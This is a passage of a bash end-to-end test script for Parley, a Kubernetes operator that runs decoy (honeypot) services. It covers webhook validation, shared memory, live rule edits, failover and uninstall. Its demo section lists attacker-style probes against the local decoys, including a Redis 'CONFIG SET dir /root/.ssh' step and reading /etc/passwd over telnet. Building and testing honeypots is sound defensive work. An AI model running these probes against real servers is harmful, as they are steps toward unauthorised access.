    echo "no caBundle in ValidatingWebhookConfiguration parley-validating-webhook yet"
    return 1
  }
}

step_admission() {
  step "5b. admission: invalid rules and connectors refused at kubectl apply"
  wait_until 60 "the operator to inject its CA into the ValidatingWebhookConfiguration" ca_injected
  # Two rules with three mistakes between them: an unknown template variable, a trigger of
  # a rule that does not exist, a regex. Each must be named with its rule's id.
  cat >"$WORK/broken-rules.yaml" <<'EOF'
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: broken
spec:
  operation: {mode: Server, transport: TCP, port: 7000}
  conversation:
    rules:
    - {id: 8, mode: Sync, regex: "a", response: "{{nope}}", trigger: [{ruleID: 99}]}
    - {id: 7, mode: Sync, regex: "(", response: "x"}
EOF
  wait_until 60 "the webhook to refuse rules that do not compile" webhook_refuses "$WORK/broken-rules.yaml" "(id 8)"
  local out status=0
  out=$(kn apply -f "$WORK/broken-rules.yaml" 2>&1) || status=$?
  [ "$status" != 0 ] || fail "kubectl apply of rules that do not compile succeeded" "$out"
  want_contains "kubectl apply of invalid rules" "$out" \
    'The ConversationRules "broken" is invalid' \
    'spec.conversation.rules[0] (id 8).response: Invalid value: "{{nope}}"' \
    'spec.conversation.rules[0] (id 8).trigger[0].ruleID: Not found: 99' \
    'spec.conversation.rules[1] (id 7).regex: Invalid value: "("'
  gone -n "$NS" crules/broken >/dev/null || fail "refused rules were stored"
  ok "invalid rules refused with every field path: $(squash "$out")"

  # Rules that do not exist yet are no reason to refuse a connector; these mistakes are.
  cat >"$WORK/broken-connector.yaml" <<'EOF'
apiVersion: parley.io/v1alpha1
kind: ExternalConnector
metadata:
  name: broken
spec:
  rules: not-written-yet
  ip: "10.0.0.1:6379"
  tls: {secretName: Redis_TLS}
EOF
  status=0
  out=$(kn apply -f "$WORK/broken-connector.yaml" 2>&1) || status=$?
  [ "$status" != 0 ] || fail "kubectl apply of a connector that cannot work succeeded" "$out"
  want_contains "kubectl apply of an invalid connector" "$out" \
    'The ExternalConnector "broken" is invalid' \
    'spec.ip: Invalid value' 'spec.tls.secretName: Invalid value'
  ok "invalid connector refused: $(squash "$out")"

  # Valid rules with a lint finding: accepted, and kubectl prints the warning.
  cat >"$WORK/lint-rules.yaml" <<'EOF'
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: small-backlog
spec:
  operation: {mode: Server, transport: TCP, port: 7001, connectionQueue: 2, maxConcurrentConnections: 5}
EOF
  out=$(kn apply --dry-run=server -f "$WORK/lint-rules.yaml" 2>&1) || fail "kubectl apply of valid rules with a lint warning failed" "$out"
  want_contains "kubectl apply of rules with a lint warning" "$out" "Warning: spec.operation.connectionQueue: a backlog of 2"
  ok "lint warnings printed by kubectl: $(squash "$out")"
}

# --- step 5c: shared memory and startWhen ------------------------------------------------------

# The server sets go and target_port in shared memory (space e2e) when a peer says OPEN; the
# client waits on startWhen until go holds, then dials the port shared memory names (the
# server's own), says HELLO, is welcomed and ends: its Job completes.
shared_yaml() {
  cat <<EOF
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: knock-server
spec:
  operation: {mode: Server, transport: TCP, port: $PORT_KNOCK, identifyBy: Address}
  memory:
    space: e2e
    sharedInit: Overwrite
    shared:
    - {name: go, type: bool, default: "false", report: true}
    - {name: target_port, type: int, default: "0", report: true}
  conversation:
    default: {value: "?\n"}
    rules:
    - {id: 1, mode: Sync, regex: "^OPEN", response: "+OPENED\n", updates: [{variable: go, value: "true"}, {variable: target_port, value: "$PORT_KNOCK"}]}
    - {id: 2, mode: Sync, regex: "^HELLO", response: "+WELCOME {{target_port}}\n", ending: true}
---
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: waiting-client
spec:
  operation:
    mode: Client
    transport: TCP
    ip: 127.0.0.1
    port: 9
    maxConcurrentConnections: 1
    interactionTimeout: 30s
    startWhen:
      conditions: [{variable: go, value: "true"}]
      portFromVariable: target_port
  memory:
    space: e2e
    shared:
    - {name: go, type: bool, default: "false"}
    - {name: target_port, type: int, default: "0"}
  conversation:
    greetings: {value: "HELLO\n"}
    rules:
    - {id: 1, mode: Sync, regex: "^\\\\+WELCOME", response: "", ending: true}
---
apiVersion: parley.io/v1alpha1
kind: ExternalConnector
metadata:
  name: knock-server
spec:
  rules: knock-server
  ip: 127.0.0.1
  pod: {hostNetwork: true}
  activities: {record: All}
---
apiVersion: parley.io/v1alpha1
kind: ExternalConnector
metadata:
  name: waiting-client
spec:
  rules: waiting-client
  pod: {hostNetwork: true}
  activities: {record: All}
EOF
}

step_shared_memory() {
  step "5c. shared memory: a client waits on startWhen until a server's rule says go"
  ports_free "$PORT_KNOCK/tcp"
  shared_yaml >"$WORK/shared.yaml"
  kn apply -f "$WORK/shared.yaml" >&2
  wait_running knock-server
  wait_until 60 "knock-server SharedMemoryReady" condition_is knock-server SharedMemoryReady True
  wait_until 60 "the store to hold the server's defaults, under the namespace" \
    shared_redis_is false GET "parley:$NS:e2e:go"
  ok "knock-server Running, SharedMemoryReady; parley:$NS:e2e:go = false in redis"

  # The client's engine Secret carries the store; its Job does not.
  local keys
  keys=$(kn get secret waiting-client-engine -o json | jq -r '.data | keys | join(",")')
  want_contains "the client's engine Secret" "$keys" shared-memory-url shared-memory-password
  [[ $(kn get job waiting-client -o json) != *"$SHARED_REDIS_PASSWORD"* ]] || fail "the client's Job holds the shared-memory password"

  wait_acts waiting-client "the client waits on startWhen" \
    'any(.[]; .type == "ConnectorStarted" and (.message | contains("waiting until operation.startWhen holds")))'
  acts_check waiting-client '[.[] | select(.type == "Connected")] | length == 0' >/dev/null ||
    fail "the client dialed before shared memory said go" "$(acts_json waiting-client)"
  wait_until 60 "the waiting client to be Running (its pod ready while it waits)" phase_is waiting-client Running
  ok "waiting-client waits (phase Running, no connection)"

  local out
  out=$(client_stdin OPEN socat -t 5 - "TCP:127.0.0.1:$PORT_KNOCK")
  want_equal "socat OPEN" "$out" "+OPENED"
  wait_until 30 "go set in shared memory" shared_redis_is true GET "parley:$NS:e2e:go"
  ok "knock-server's rule 1 set go and target_port: $(squash "$(shared_redis MGET "parley:$NS:e2e:go" "parley:$NS:e2e:target_port")")"

  wait_until 120 "waiting-client to succeed" phase_is waiting-client Succeeded
  # shellcheck disable=SC2016 # jq filters
  wait_acts waiting-client "the client dialed the shared port, was welcomed and ended" \
    'any(.[]; .type == "ConnectorStarted" and (.message | contains("operation.startWhen holds")) and (.message | contains(":" + $p)))
     and executed == [1] and all_ended' --arg p "$PORT_KNOCK"
  # shellcheck disable=SC2016 # jq filters
  wait_acts waiting-client "welcomed with the port the server read from shared memory" \
    'any(.[]; .type == "Input" and (.input.text | startswith("+WELCOME " + $p)))' --arg p "$PORT_KNOCK"
  wait_acts knock-server "HELLO answered by rule 2" 'any(.[]; .type == "Input" and (.rules.executed // []) == [2])'
  ok "waiting-client Succeeded after startWhen held: $(squash "$(kn get xconn waiting-client --no-headers)")"
}

# --- step 6: a live rules edit ----------------------------------------------------------------

step_rules_edit() {
  step "6. rules edited live"
  local c=redis-decoy pod uid restarts gen out
  pod=$(kn get pods -l parley.io/connector=$c -o jsonpath='{.items[0].metadata.name}')
  uid=$(kn get pod "$pod" -o jsonpath='{.metadata.uid}')
  restarts=$(kn get pod "$pod" -o jsonpath='{.status.containerStatuses[0].restartCount}')
  gen=$(jsonpath crules/fake-redis '{.metadata.generation}')
  sed 's|response: "+PONG\\r\\n"|response: "+PONG (edited live)\\r\\n"|' "$root/examples/redis.yaml" >"$WORK/redis-edited.yaml"
  ! cmp -s "$root/examples/redis.yaml" "$WORK/redis-edited.yaml" || fail "the PONG reply of examples/redis.yaml was not found to edit"
  log "kubectl apply -f redis.yaml with PING answered by '+PONG (edited live)'"
  kn apply -f "$WORK/redis-edited.yaml" >&2
  local newgen=$((gen + 1))
  wait_until 60 "the connector to take generation $newgen of fake-redis" \
    field_is "xconn/$c" '{.status.rules.generation}' "$newgen"
  # New connections get the new rules within about a second of the Config push.
  wait_until 30 "redis-cli PING to be answered by the edited rule" redis_ping_is "PONG (edited live)"
  out=$(client redis-cli -h 127.0.0.1 -p "$PORT_REDIS" PING)
  want_equal "redis-cli PING after the edit" "$out" "PONG (edited live)"
  ok "new connections answer with the edited text"
  want_equal "connector pods" "$(kn get pods -l parley.io/connector=$c -o name)" "pod/$pod"
  want_equal "pod UID" "$(kn get pod "$pod" -o jsonpath='{.metadata.uid}')" "$uid"
  want_equal "restartCount" "$(kn get pod "$pod" -o jsonpath='{.status.containerStatuses[0].restartCount}')" "$restarts"
  ok "same pod $pod (uid $uid), restartCount $restarts: no restart"
  wait_until 60 "event RulesUpdated on $c" describe_has_events "$c" RulesUpdated
  # shellcheck disable=SC2016 # a jq filter
  wait_acts $c "the new PING activity carries generation $newgen" \
    'any(.[]; .type == "Input" and .rulesRef.generation == $g and (.rules.executed // []) == [1])' --argjson g "$newgen"
  ok "event RulesUpdated: $(kn get events --field-selector "involvedObject.name=$c,reason=RulesUpdated" -o jsonpath='{.items[-1:].message}')"
  edit_latency
}

# edit_latency measures, over 20 edits, the time from `kubectl apply` returning to a new
# connection answering with the edited rule (redis-cli's own start included). A measurement
# for docs/performance.md, not a timed assertion: only an edit that never shows fails.
edit_latency() {
  local i t0 now out ms=() sorted
  sed 's|response: "+PONG\\r\\n"|response: "+PONG eNUM\\r\\n"|' "$root/examples/redis.yaml" >"$WORK/redis-edit.tpl"
  grep -q eNUM "$WORK/redis-edit.tpl" || fail "the PONG reply of examples/redis.yaml was not found to edit"
  for i in $(seq 1 20); do
    sed "s/eNUM/e$i/" "$WORK/redis-edit.tpl" >"$WORK/redis-edit.yaml"
    kn apply -f "$WORK/redis-edit.yaml" >/dev/null
    t0=$(date +%s%N)
    while :; do
      out=$(timeout 5 redis-cli -h 127.0.0.1 -p "$PORT_REDIS" PING 2>&1) || true
      now=$(date +%s%N)
      [ "$out" = "PONG e$i" ] && break
      [ $(((now - t0) / 1000000)) -lt 30000 ] || fail "edit $i: PING still answered '$out' after 30 s"
      sleep 0.01
    done
    ms+=($(((now - t0) / 1000000)))
  done
  sorted=$(printf '%s\n' "${ms[@]}" | sort -n | tr '\n' ' ')
  read -r -a ms <<<"$sorted"
  ok "rules edit to new behaviour on the wire, 20 edits: p50 ${ms[9]} ms, p99 ${ms[19]} ms (all: ${sorted% })"
}

redis_ping_is() {
  local out
  out=$(timeout 10 redis-cli -h 127.0.0.1 -p "$PORT_REDIS" PING 2>&1) || true
  [ "$out" = "$1" ] || {
    echo "redis-cli PING: $out"
    return 1
  }
}

# --- step 7: pause, resume, delete -----------------------------------------------------------

# greeted: a new connection to the pinger gets its greeting. refused: it is closed at once,
# without one. socat -u reads what the server sends until it closes (or the timeout).
pinger_greets() {
  local out
  out=$(timeout 3 socat -u "TCP:127.0.0.1:$PORT_PINGER" - 2>&1) || true
  [[ $out == *"+OK ready"* ]] || {
    echo "no greeting: $(printf %q "$out")"
    return 1
  }
}
pinger_refuses() {
  local out status=0
  out=$(timeout 3 socat -u "TCP:127.0.0.1:$PORT_PINGER" - 2>&1) || status=$?
  if [ "$status" != 0 ] || [ -n "$out" ]; then
    echo "not refused (status $status): $(printf %q "$out")"
    return 1
  fi
}

step_lifecycle() {
  step "7. pause, resume, delete with a live conversation"
  local c=pinger out pod
  ports_free "$PORT_PINGER/tcp"
  # The rules of the chart's install notes (with identifyBy: Address: every client here comes from
  # 127.0.0.1, and without it a new socket from the same IP joins the live conversation
  # instead of starting one, and is neither greeted nor refused).
  cat >"$WORK/pinger.yaml" <<EOF
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: pinger
spec:
  description: PING/PONG demo
  operation: {mode: Server, transport: TCP, port: 7000, interactionTimeout: 60s, identifyBy: Address,
              framing: {type: Delimiter, delimiter: "\n"}}
  conversation:
    greetings: {value: "+OK ready\r\n"}
    default:   {value: "-ERR unknown command\r\n"}
    ending:    {value: "+OK bye\r\n"}
    rules:
    - {id: 1, mode: Sync, regex: "(?i)^PING", response: "+PONG\r\n"}
    - {id: 2, mode: Sync, regex: "(?i)^QUIT", ending: true}
$(connector_yaml pinger pinger "$PORT_PINGER")
  gracePeriod: 30s
EOF
  kn apply -f "$WORK/pinger.yaml" >&2
  wait_running $c
  pod=$(kn get pods -l parley.io/connector=$c -o jsonpath='{.items[0].metadata.name}')
  ok "pinger Running (pod $pod)"

  # The install notes' one-liner: both lines in one write are two inputs (the framing), and
  # QUIT's ending closes the connection, so nc returns.
  out=$(printf 'PING\r\nQUIT\r\n' | timeout 10 nc 127.0.0.1 "$PORT_PINGER") || fail "the notes' nc one-liner did not return: $(printf %q "$out")"
  want_equal "the notes' nc one-liner" "$out" $'+OK ready\r\n+PONG\r\n+OK bye\r'
  ok "printf 'PING\\r\\nQUIT\\r\\n' | nc: greeted, PONG, bye, closed"

  # kubectl scale: a second pod on the host network wants the same port, which the scheduler
  # refuses; Ready says so, and comes back when scaled down.
  log "kubectl scale xconn $c --replicas=2"
  kn scale "xconn/$c" --replicas=2 >&2
  wait_until 90 "Ready False, reason Unschedulable (the port is taken)" condition_is $c Ready False Unschedulable
  ok "scaled to 2: Ready=False Unschedulable: $(jsonpath "xconn/$c" '{.status.conditions[?(@.type=="Ready")].message}')"
  kn scale "xconn/$c" --replicas=1 >&2
  kn wait --for=condition=Ready "xconn/$c" --timeout=120s >&2 || fail "Ready after scaling back to 1"
  want_equal "pinger's pod after scaling back" "$(kn get pods -l parley.io/connector=$c --field-selector=status.phase=Running -o name)" "pod/$pod"
  ok "scaled back to 1: Ready, same pod"

  # A conversation that stays open through pause and resume until the deletion.
  session_start pinger socat - "TCP:127.0.0.1:$PORT_PINGER"
  session_expect pinger $'+OK ready\r\n'
  session_send pinger PING
  session_expect pinger $'+PONG\r\n'
  local live
  wait_acts $c "the live conversation's PING recorded" 'any(.[]; .type == "Input" and .input.text == "PING\n")'
  live=$(acts_json $c | jq -r 'first(.[] | select(.type == "Input") | .connection.id)')
  ok "live conversation $live open"

  log "kubectl patch xconn $c spec.paused=true"
  kn patch xconn $c --type=merge -p '{"spec":{"paused":true}}' >&2
  wait_until 60 "phase Paused" phase_is $c Paused
  wait_until 30 "new connections to be refused" pinger_refuses
  ok "paused: new connections refused"
  wait_until 60 "the refusal counted in status.connections.rejected" \
    field_gt "xconn/$c" '{.status.connections.rejected}' 0
  wait_acts $c "a Rejected activity" 'any(.[]; .type == "Rejected")'
  session_send pinger PING
  session_expect pinger $'+PONG\r\n'
  ok "the live conversation goes on while paused"

  log "kubectl patch xconn $c spec.paused=false"
  kn patch xconn $c --type=merge -p '{"spec":{"paused":false}}' >&2
  wait_until 60 "phase Running" phase_is $c Running
  wait_until 30 "new connections to be greeted again" pinger_greets
  want_equal "pods after pause and resume" "$(kn get pods -l parley.io/connector=$c -o name)" "pod/$pod"
  ok "resumed: new connections accepted, same pod"

  log "kubectl delete xconn $c (a conversation is live)"
  kn delete xconn $c --wait=false >&2
  session_expect pinger $'+OK bye\r\n' 60
  session_wait_exit pinger 30
  ok "the live conversation got the ending rule (+OK bye) and was closed"
  wait_until 90 "ExternalConnector $c to be gone (finalizer parley.io/graceful-end done)" gone -n "$NS" xconn $c
  no_grace_exceeded
  ok "ExternalConnector gone"
  wait_until 120 "the connector's objects to be garbage-collected" gone -n "$NS" \
    "deploy/$c" "svc/$c" "secret/$c-engine" "pod/$pod"
  wait_until 120 "the connector's Activities to be garbage-collected" gone -n "$NS" activities -l parley.io/connector=$c
  ok "Deployment, Service, Secret, pod and Activities of $c garbage-collected"
  # The Activities are gone with their owner; the engine's activity log keeps the story.
  wait_until 30 "the Ended activity of the live conversation in the engine's log" operator_logged_end $c "$live"
  log "    $(operator_logged_end $c "$live")"
  wait_until 30 "the Stopped event of the pod's graceful end" \
    event_exists "$c" Stopped
  ok "engine log: the conversation ended by the End order; event Stopped: the pod said Bye"
}

# no_grace_exceeded: no graceful end ran out of its grace period (the finalizer then removes
# the connector anyway, with a GracePeriodExceeded event).
no_grace_exceeded() {
  local ev
  ev=$(kn get events --field-selector reason=GracePeriodExceeded -o jsonpath='{range .items[*]}{.involvedObject.name}: {.message}{"\n"}{end}')
  [ -z "$ev" ] || fail "a graceful end did not finish within the grace period" "$ev"
}

# operator_logged_end <connector> <connection id>: the engine's JSON activity log (logger
# engine.activity) has the conversation's Ended activity, not ended by the peer.
operator_logged_end() {
  local line
  line=$(ks logs "deploy/$RELEASE" --tail=-1 | grep -F '"logger":"engine.activity"' | grep -F "\"connector\":\"$1\"" |
    jq -c --arg id "$2" 'select(.activity.type == "Ended" and .activity.connection.id == $id) | .activity | {type, connection: .connection.id, message}') || true
  [ -n "$line" ] || {
    echo "no Ended activity of $1 connection $2 in the operator's log"
    return 1
  }
  [[ $line != *"peer closed"* ]] || {
    echo "ended by the peer, not by the End order: $line"
    return 1
  }
  echo "$line"
}

# --- step 8: uninstall -------------------------------------------------------------------------

step_uninstall() {
  step "8. uninstall: connectors deleted, helm uninstall, nothing of the release left"
  local c
  local t0=$SECONDS
  kn delete xconn --all --wait=false >&2
  for c in "${CONNECTORS[@]}"; do
    wait_until 120 "$c to be gone" gone -n "$NS" "xconn/$c"
    log "  $c gone after $((SECONDS - t0))s"
  done
  no_grace_exceeded
  wait_until 120 "every connector workload to be garbage-collected" gone -n "$NS" deploy,svc,secrets,pods,activities -l app.kubernetes.io/component=connector
  wait_until 60 "every Activity to be garbage-collected" gone -n "$NS" activities
  log "  Deployments, Services, Secrets, pods and Activities garbage-collected after $((SECONDS - t0))s"
  ok "connectors deleted by their finalizer, their objects garbage-collected"
  kn delete crules --all >&2

  log "helm uninstall $RELEASE -n $RELEASE_NS"
  helm_ uninstall "$RELEASE" -n "$RELEASE_NS" --wait --timeout 120s >&2
  wait_until 120 "the operator pods to be gone" gone -n "$RELEASE_NS" pods -l app.kubernetes.io/instance=$RELEASE
  # Everything the chart made carries the release's instance label.
  local sel=app.kubernetes.io/instance=$RELEASE
  wait_until 60 "nothing labelled $sel in $RELEASE_NS" gone -n "$RELEASE_NS" \
    deploy,rs,pods,svc,sa,roles,rolebindings,configmaps,secrets,pdb -l "$sel"
  wait_until 60 "no ClusterRole, ClusterRoleBinding or webhook configuration labelled $sel" \
    gone clusterroles,clusterrolebindings,validatingwebhookconfigurations -l "$sel"
  gone -n "$RELEASE_NS" secrets -l owner=helm,name=$RELEASE >/dev/null || fail "Helm's release Secret is left"
  ok "operator, Services, ServiceAccount, RBAC and Helm's release record removed"
  # What Helm leaves by design: the CRDs (crds/ is never deleted) and the engine Secret the
  # operator made. The e2e removes both as charts/parley/README.md says, so that a kept
  # cluster's next install gets this checkout's CRDs.
  local left
  left=$(ks get secrets,leases -o name)
  log "left in $RELEASE_NS after helm uninstall (not Helm's): $(squash "$left")"
  ks delete secret "$RELEASE-engine-tls" "$RELEASE-webhook-tls" >&2
  k delete crd activities.parley.io activitysinks.parley.io externalconnectors.parley.io conversationrules.parley.io >&2
  wait_until 60 "the parley.io API group to be gone" no_parley_api
  k delete ns "$NS" "$RELEASE_NS" --wait=false >&2
  wait_until 120 "namespaces $NS and $RELEASE_NS to be deleted" gone ns "$NS" "$RELEASE_NS"
  ok "engine and webhook Secrets, CRDs and namespaces deleted: nothing of Parley is left"
}

no_parley_api() {
  local out
  out=$(k api-resources --api-group=parley.io -o name 2>&1) || true
  [ -z "$out" ] || {
    echo "$out"
    return 1
  }
}

# --- demo ---------------------------------------------------------------------------------------

print_demo() {
  cat <<EOF

Parley runs on the local cluster, serving the five examples on this machine's loopback.

  export KUBECONFIG=$KUBECONFIG
  export PATH=$(dirname "$KUBECTL"):$(dirname "$HELM"):\$PATH    # kubectl, helm

Watch what peers do (in another terminal):
  kubectl -n $NS get activities -w
  kubectl -n $NS get xconn -w

Talk to the decoys:
  redis-cli -h 127.0.0.1 -p $PORT_REDIS PING
  redis-cli -h 127.0.0.1 -p $PORT_REDIS -a hunter2 --no-auth-warning CONFIG SET dir /root/.ssh
  swaks --server 127.0.0.1:$PORT_SMTP --to a@b.example --auth LOGIN --auth-user u --auth-password p
  mosquitto_pub -h 127.0.0.1 -p $PORT_MQTT -u admin -P secret -q 1 -t sensors/t1 -m 21.5 -d
  dig @127.0.0.1 -p $PORT_DNS decoy.example A +tries=1 +time=2
  dig @127.0.0.1 -p $PORT_DNS version.bind TXT CH +short
  socat - TCP:127.0.0.1:$PORT_TELNET      (log in with anything; try uname -a, cat /etc/passwd, exit)

Look and change:
  kubectl -n $NS describe xconn telnet-decoy       (Events: Started, RuleAlert)
  kubectl -n $NS edit crules fake-redis            (edit a response: new connections use it)
  kubectl -n $NS patch xconn redis-decoy --type=merge -p '{"spec":{"paused":true}}'
  kubectl -n $RELEASE_NS logs deploy/$RELEASE | grep engine.activity

Tear down: hack/cluster.sh down (make e2e also starts by removing this release and namespace)
EOF
}

# --- step 5a: idle connectors cost no API writes -------------------------------------------------

# connector_versions prints "name resourceVersion activities.total" for every connector.
connector_versions() {
  kn get xconn -o jsonpath='{range .items[*]}{.metadata.name} {.metadata.resourceVersion} {.status.activities.total}{"\n"}{end}'
}

step_idle_writes() {
  step "5a. idle connectors cost the API server no writes"
  local before after name rv total idle=0 written=()
  before=$(connector_versions)
  sleep 30
  after=$(connector_versions)
  # A connector is idle when no activity was counted in the window (a conversation timing
  # out is activity); an idle one must not have been written at all.
  while read -r name rv total; do
    local now
    now=$(awk -v n="$name" '$1 == n {print $2 " " $3}' <<<"$after")
    [ "${now#* }" = "$total" ] || continue
    idle=$((idle + 1))
    [ "${now% *}" = "$rv" ] || written+=("$name")
  done <<<"$before"
  [ "$idle" -gt 0 ] || fail "no connector stayed idle for 30 s to measure" "$before"$'\n'"$after"
  [ ${#written[@]} = 0 ] || fail "idle connectors were written within 30 s: ${written[*]}" "$before"$'\n'"$after"
  ok "$idle idle connectors over 30 s: 0 API writes to them"
}

# --- step 7b: leader failover during a flood -------------------------------------------------------

# FAILOVER_CONVERSATIONS is how many conversations the flood holds: 5 Activities each, within
# the connector's maxCount (1000) and a few seconds of the default write rate.
FAILOVER_CONVERSATIONS=150

# engine_leader prints the operator pod labelled as the engine's leader, when exactly one is.
engine_leader() {
  local pods
  pods=$(ks get pods -l "app.kubernetes.io/instance=$RELEASE,parley.io/engine-leader=true" -o jsonpath='{.items[*].metadata.name}')
  if [ -z "$pods" ] || [ "$(wc -w <<<"$pods")" != 1 ]; then
    echo "engine leader pods: '$pods'"
    return 1
  fi
  echo "$pods"
}

# new_engine_leader <old pod>: another pod leads, and is ready.
new_engine_leader() {
  local pod
  pod=$(engine_leader) || { echo "$pod"; return 1; }
  [ "$pod" != "$1" ] || { echo "$1 still leads"; return 1; }
  [ "$(ks get pod "$pod" -o jsonpath='{.status.conditions[?(@.type=="Ready")].status}')" = True ] || { echo "$pod not ready"; return 1; }
}

# flood <count file>: FAILOVER_CONVERSATIONS conversations, one after the other, each sending
# a numbered PING and QUIT; it writes how many got their PONG (what the client sent and saw
# answered) to the count file.
flood() {
  local i sent=0 out
  for i in $(seq 1 "$FAILOVER_CONVERSATIONS"); do
    out=$(printf 'PING failover-%d\r\nQUIT\r\n' "$i" | timeout 5 socat -t 2 - "TCP:127.0.0.1:$PORT_FAILOVER" 2>&1) || true
    [[ $out == *"+PONG"* ]] && sent=$((sent + 1))
    sleep 0.05
  done
  echo "$sent" >"$1"
}

step_failover() {
  step "7b. leader failover during a flood"
  local c=failover old sent acts flood_pid
  ports_free "$PORT_FAILOVER/tcp"
  # Two replicas: one leads (reconciles, serves the engine, labelled parley.io/engine-leader),
  # the other stands by, ready. On this one-node cluster both want the host ports, so the
  # second stays Pending until the leader's pod is gone; on a cluster with a pod network it
  # runs. Either way the next leader is another process that rebuilds the engine's state
  # from the cluster, and the connector pod redials it and replays what was not written.
  helm_ upgrade "$RELEASE" "$root/charts/parley" -n "$RELEASE_NS" --reuse-values --set replicaCount=2 >/dev/null
  cat >"$WORK/failover.yaml" <<EOF
apiVersion: parley.io/v1alpha1
kind: ConversationRules
metadata:
  name: failover
spec:
  operation:
    {mode: Server, transport: TCP, port: 7000, interactionTimeout: 60s, identifyBy: Address,
     framing: {type: Delimiter, delimiter: "\n"}}
  conversation:
    greetings: {value: "+OK ready\r\n"}
    default:   {value: "-ERR unknown command\r\n"}
    ending:    {value: "+OK bye\r\n"}
    rules:
    - {id: 1, mode: Sync, regex: "(?i)^PING", response: "+PONG\r\n"}
    - {id: 2, mode: Sync, regex: "(?i)^QUIT", ending: true}
$(connector_yaml $c failover "$PORT_FAILOVER")
EOF
  kn apply -f "$WORK/failover.yaml" >&2
  wait_running $c
  wait_until 60 "one operator pod labelled as the engine's leader" engine_leader
  old=$(engine_leader)
  ok "engine leader: $old"

  flood "$WORK/failover.sent" &
  flood_pid=$!
  wait_acts $c "the flood reaching the cluster" '([.[] | select(.type == "Input")] | length) >= 20'
  # The former leader's log to its end (its last status write), kept with the artifacts.
  mkdir -p "$ARTIFACTS"
  ks logs -f "$old" >"$ARTIFACTS/failover-former-leader.log" 2>&1 &
  local oldlog_pid=$!
  log "deleting the leader's pod $old during the flood"
  ks delete pod "$old" --wait=false >&2
  wait "$flood_pid" || fail "the flood client failed"
  sent=$(cat "$WORK/failover.sent")
  [ "$sent" -gt 0 ] || fail "no conversation of the flood was answered"
  wait_until 180 "another operator pod leading the engine" new_engine_leader "$old"
  ok "engine leader now: $(engine_leader); the client sent $sent numbered PINGs"
  # SIGTERM stopped it gracefully: its engine wrote its last counters before the Lease went.
  wait "$oldlog_pid" 2>/dev/null || true
  grep -q 'engine stopped; status written' "$ARTIFACTS/failover-former-leader.log" ||
    fail "the former leader did not stop gracefully (no final status write in its log)" "$(tail -5 "$ARTIFACTS/failover-former-leader.log")"
  ok "the former leader stopped gracefully and wrote its last status"
  wait_running $c

  # Every PING the client sent is one Activity, exactly once; the counters agree.
  wait_acts $c "each of the $sent PINGs exactly once" \
    '[.[] | select(.type == "Input" and (.input.text // "" | startswith("PING failover-"))) | .input.text] as $p
     | ($p | length) == $n and ($p | unique | length) == $n' --argjson n "$sent"
  acts=$(kn get activities -l "parley.io/connector=$c" -o name | wc -l)
  ok "$sent conversations, $acts Activities: nothing lost or duplicated across the failover"
  # The status counters agree with the Activities exactly: the former leader wrote what it
  # had acknowledged before it stepped down, and the new one counted the replay.
  wait_until 30 "status counters total/recorded/dropped of $c to be $acts/$acts/0" \
    field_is "xconn/$c" '{.status.activities.total}/{.status.activities.recorded}/{.status.activities.dropped}' "$acts/$acts/0"
  ok "status counters equal to the $acts Activities"

  kn delete -f "$WORK/failover.yaml" --wait=true --timeout=60s >&2
  helm_ upgrade "$RELEASE" "$root/charts/parley" -n "$RELEASE_NS" --reuse-values --set replicaCount=1 >/dev/null
  ks rollout status "deploy/$RELEASE" --timeout=180s >&2 || fail "the operator did not settle on one replica"
}

# --- main -------------------------------------------------------------------------------------

log "parley e2e ($MODE): $root"
rm -rf "$ARTIFACTS"
step_cluster
step_install
step_examples
step_clients
step_kubectl
[ "$MODE" = demo ] && exit 0
step_idle_writes
step_admission
step_shared_memory
step_rules_edit
step_lifecycle
step_failover
step_uninstall
